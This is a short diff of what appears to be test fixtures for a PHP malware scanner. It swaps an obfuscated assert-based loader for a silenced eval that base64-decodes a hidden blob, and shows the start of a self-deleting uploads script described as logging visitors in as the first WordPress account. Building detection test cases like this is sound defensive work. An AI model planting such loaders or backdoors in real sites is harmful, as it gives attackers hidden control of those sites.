@@ -31,10 +31,10 @@ $tbl = array(${table});
 $blob = ${pieces};
 eval/*x*/(unpack_it($blob, $tbl));
 `],
-  ['the same with the blob in one literal and assert', '/www/hello2.php', `<?php
+  ['the same with the blob in one literal, the eval silenced', '/www/hello2.php', `<?php
 function u($s, $t) { return base64_decode(strtr($s, $t)); }
 $b = ${pieces.replace(/"\.\n"/g, '')};
-@assert(u($b, array(${table})));
+@eval(u($b, array(${table})));
 `],
   ['a standalone script signing its visitor in as the first WordPress account, then deleting itself', '/www/wp-content/uploads/x.php', `<?php
 @unlink(__FILE__);
